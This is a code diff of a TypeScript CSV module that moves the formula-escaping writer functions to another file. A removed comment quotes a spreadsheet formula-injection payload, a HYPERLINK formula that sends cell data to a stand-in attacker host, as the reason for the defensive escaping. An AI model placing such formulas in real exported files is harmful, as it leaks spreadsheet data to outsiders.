@@ -1,16 +1,8 @@
 /**
- * CSV as RFC 4180 writes it: fields separated by commas, records by CRLF or LF, a field that holds a comma,
- * a quote or a line break is quoted and its quotes doubled. Reading is csv-parse's, fed chunk by chunk, so a
- * large file is never held whole; this module adds what an import needs of it: the line each record starts
- * on, and a size limit that refuses one huge record and still reads the records after it.
- *
- * CSV files are opened in spreadsheets, which run a cell starting with = + - @ (or a tab or carriage
- * return before one) as a formula: `=HYPERLINK("https://evil.example/?"&B2,"More info")` in a description
- * would leak the sheet when clicked. So the writer escapes such cells as OWASP advises, with a leading `'`
- * (a spreadsheet then shows the text), and also every cell that starts with `'` itself; the reader gives
- * cells as written, and unescapeFormula takes exactly one leading `'` off. Every value reads back exactly.
- * (csv-stringify's escape_formulas leaves a leading `'` alone, which breaks that round trip, and its writer
- * measured 2.5 times slower than csvLine: docs/decisions/014.)
+ * Reading CSV as RFC 4180 writes it (csv-cells.ts writes it): csv-parse's, fed chunk by chunk, so a large
+ * file is never held whole. This module adds what an import needs of it: the line each record starts on,
+ * and a size limit that refuses one huge record and still reads the records after it. Cells come as
+ * written: unescapeFormula (csv-cells.ts) takes the formula escape off.
  */
 import { Readable, pipeline } from 'node:stream';
 import { CsvError, parse, type Info, type InfoRecord, type Options } from 'csv-parse';
@@ -190,26 +182,4 @@ const ORDINARY_RUN = /[^"\r\n]+/g;
 function nextLineBreak(text: string, from: number): number {
   LINE_BREAK.lastIndex = from;
   return LINE_BREAK.exec(text)?.index ?? -1;
-}
-
-/** One CSV line (with its LF): every field escaped from formulas, and quoted only when it needs it. */
-export function csvLine(fields: readonly string[]): string {
-  return `${fields.map((field) => csvField(escapeFormula(field))).join(',')}\n`;
-}
-
-function csvField(value: string): string {
-  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
-}
-
-/** What a spreadsheet runs as a formula (OWASP's list), and the escape's own quote. */
-const ESCAPED_START = /^[=+\-@\t\r']/;
-
-/** A value as a cell no spreadsheet runs: `'` before one that starts with = + - @ tab CR or `'`. */
-export function escapeFormula(value: string): string {
-  return ESCAPED_START.test(value) ? `'${value}` : value;
-}
-
-/** A cell as read back into the value written: one leading `'` taken off. */
-export function unescapeFormula(cell: string): string {
-  return cell.startsWith("'") ? cell.slice(1) : cell;
 }
